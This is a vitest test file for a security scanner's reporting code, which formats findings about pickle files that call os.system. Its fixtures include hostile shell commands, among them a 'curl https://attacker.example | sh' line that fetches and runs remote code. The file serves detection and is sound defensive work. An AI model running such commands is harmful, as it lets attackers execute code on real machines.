import { expect, test } from 'vitest';
import type { Finding } from '../../shared/domain/finding';
import type { SymbolicValue } from '../../shared/domain/symbol';
import { shorten } from '../../shared/text/printable';
import { findingProse, plainText } from './prose';

const text = (value: string): SymbolicValue => ({ kind: 'str', value, length: value.length });
const finding = (message: string, command: string): Finding => ({
  ruleId: 'dangerous-call',
  severity: 'critical',
  message,
  entryPath: [],
  byteOffset: 0,
  byteLength: 1,
  evidence: [
    {
      kind: 'call',
      callee: { kind: 'global', module: 'os', name: 'system' },
      arguments: { kind: 'tuple', items: [text(command)], truncated: false },
    },
  ],
});

test('the command is set apart, backticks and all', () => {
  const command = 'echo `id` > /tmp/x';
  expect(findingProse(finding(`Loading this file runs a shell command: ${command}`, command))).toEqual([
    'Loading this file runs a shell command: ',
    { code: command },
    '',
  ]);
});

test('a command that the rule has cut is known by its beginning', () => {
  const command = 'x'.repeat(30).concat('y'.repeat(400));
  const message = `Loading this file runs a shell command: ${shorten(command, 300)} Reached by the C unpickler only.`;
  const prose = findingProse(finding(message, command));
  expect(prose[1]).toEqual({ code: shorten(command, 300) });
  expect(plainText(prose)).toBe(message);
});

test('what the command does stays plain behind it', () => {
  const command = 'curl https://attacker.example | sh. It prints text';
  const does = '. It downloads a program from https[:]//attacker[.]example and runs it.';
  expect(findingProse(finding(`Loading this file runs a shell command: ${command}${does}`, command))).toEqual([
    'Loading this file runs a shell command: ',
    { code: command },
    does,
  ]);
});

test('a message without evidence in it stays plain', () => {
  expect(findingProse(finding('Something is odd.', 'curl'))).toEqual(['Something is odd.']);
});
